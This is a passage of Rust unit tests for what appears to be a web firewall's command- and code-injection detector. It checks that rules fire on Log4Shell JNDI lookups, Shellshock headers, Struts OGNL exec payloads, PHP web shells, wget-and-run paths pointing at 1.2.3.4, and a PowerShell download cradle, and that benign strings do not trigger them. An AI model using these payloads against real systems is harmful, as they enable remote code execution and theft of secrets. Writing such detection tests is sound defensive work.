            "{cat}",
            "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
        ] {
            assert!(
                fires(v).is_empty(),
                "false positive on {v:?}: {:?}",
                fires(v)
            );
        }
        let fired: Vec<_> = benign_values()
            .iter()
            .filter(|v| !fires(v).is_empty())
            .collect();
        assert!(fired.is_empty(), "false positives: {fired:?}");
    }

    #[test]
    fn log4j_lookups_fire_in_any_header_the_path_and_arguments() {
        let d = CommandInjection::new();
        for header in [
            &b"${jndi:ldap://evil.example/a}"[..],
            b"${${lower:j}ndi:ldap://x/a}",
            b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            b"${JNDI:dns://x}",
            b"${ctx:loginId}",
            b"${env:AWS_SECRET_ACCESS_KEY}",
            b"${sys:user.name}",
        ] {
            let found = inspect_get(&d, b"/", &[(b"X-Api-Version", header)]);
            assert_eq!(rules(&found), [LOG4J_LOOKUP], "{header:?}");
            assert_eq!(found[0].variable, "REQUEST_HEADERS:X-Api-Version");
        }
        assert_eq!(
            rules(&inspect_get(&d, b"/%24%7Bjndi:ldap://x/a%7D", &[])),
            [LOG4J_LOOKUP]
        );
        assert_eq!(fires("${jndi:ldap://evil.example/a}"), [LOG4J_LOOKUP]);
        assert!(fires("cost: ${price} for ${qty} items").is_empty());
        assert!(fires("${environment}: ${env}").is_empty());
    }

    #[test]
    fn commands_and_code_in_the_path_fire() {
        let d = CommandInjection::new();
        let path_rules = |path: &str| rules(&inspect_get(&d, path.as_bytes(), &[]));
        for path in [
            "/cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://1.2.3.4/mips",
            "/language/Swedish${IFS}&&cd${IFS}/tmp;wget${IFS}http://1.2.3.4/x",
            "/cgi-bin/;wget%20http://1.2.3.4/x;sh%20x",
            "/index.php/$(id)",
        ] {
            assert_eq!(path_rules(path), [COMMAND_INJECTION], "{path}");
        }
        for path in [
            "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
            "/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream()))}/",
        ] {
            assert_eq!(path_rules(path), [CODE_INJECTION], "{path}");
        }
        for path in [
            "/app;jsessionid=0A1B2C3D",
            "/catalog;id=5/shoes",
            "/tags/rock&roll",
            "/brands/AT&T/phones",
            "/docs/api/java.lang.Runtime.html",
            "/blog/2024/bash-tips-cat-and-ls",
            "/files/report;version=2.pdf",
        ] {
            assert!(path_rules(path).is_empty(), "false positive on {path}");
        }
    }

    #[test]
    fn shellshock_fires_in_headers_and_arguments() {
        let d = CommandInjection::new();
        let found = inspect_get(
            &d,
            b"/cgi-bin/status",
            &[(b"User-Agent", b"() { :; }; /bin/bash -c 'id'")],
        );
        assert!(rules(&found).contains(&SHELLSHOCK), "{found:?}");
        assert!(fires("() { ignored; }; echo vulnerable").contains(&SHELLSHOCK));
        assert!(fires("(a) {b}").is_empty());
        assert!(fires("() {").contains(&SHELLSHOCK));
    }

    /// Struts' OGNL in `Content-Type` (CVE-2017-5638) and PHP written into a logged header
    /// for a later inclusion are found in any header.
    #[test]
    fn code_in_other_headers_fires() {
        let d = CommandInjection::new();
        for (name, value) in [
            (
                &b"Content-Type"[..],
                &b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"[..],
            ),
            (b"X-Custom", b"<?php system($_GET['c']); ?>"),
        ] {
            let found = inspect_get(&d, b"/", &[(name, value)]);
            assert_eq!(rules(&found), [CODE_INJECTION], "{value:?}");
            assert!(found[0].variable.starts_with("REQUEST_HEADERS:"));
        }
    }

    #[test]
    fn code_injection_fires() {
        for v in [
            "<?php system($_GET['c']); ?>",
            "<?= `id` ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "PHP://input",
            "expect://id",
            "phar://uploads/x.jpg",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "java.lang.ProcessBuilder",
            "system('id');",
            "passthru($_GET['c'])",
            "phpinfo()",
            "eval (\"echo 1;\")",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
            "Invoke-WebRequest http://example.com/path/file.ps1",
            "<php>die(@md5(HelloThinkCMF))</php>",
            "zip://uploads/avatar.jpg#shell.php",
            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
            "${#context[\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"]}",
        ] {
            assert!(fires(v).contains(&CODE_INJECTION), "missed {v:?}");
        }
        for v in [
            "<?xml version=\"1.0\"?>",
            "see php.net docs",
            "Java runtime 21",
            "the solar system (planets)",
            "operating system(s)",
            "Eval (2024): results",
            "exec(utive) summary",
        ] {
            assert!(fires(v).is_empty(), "false positive on {v:?}");
        }
    }

    #[test]
    fn benign_headers_do_not_fire() {
        for (name, value) in benign_headers() {
            let found = inspect_get(
                &CommandInjection::new(),
                b"/",
                &[(name.as_bytes(), value.as_bytes())],
            );
            assert!(found.is_empty(), "false positive on {value:?}: {found:?}");
        }
    }

    #[test]
    fn values_without_separators_skip_the_command_search() {
        for v in [&b"whoami"[..], b"cat /etc/passwd", b"ls -la", b""] {
            assert_eq!(classes(v) & SEPARATOR, 0, "{v:?}");
        }
        for v in [&b"a;b"[..], b"a|b", b"a&b", b"`", b"$(", b"a\nb"] {
            assert_ne!(classes(v) & SEPARATOR, 0, "{v:?}");
        }
    }
}
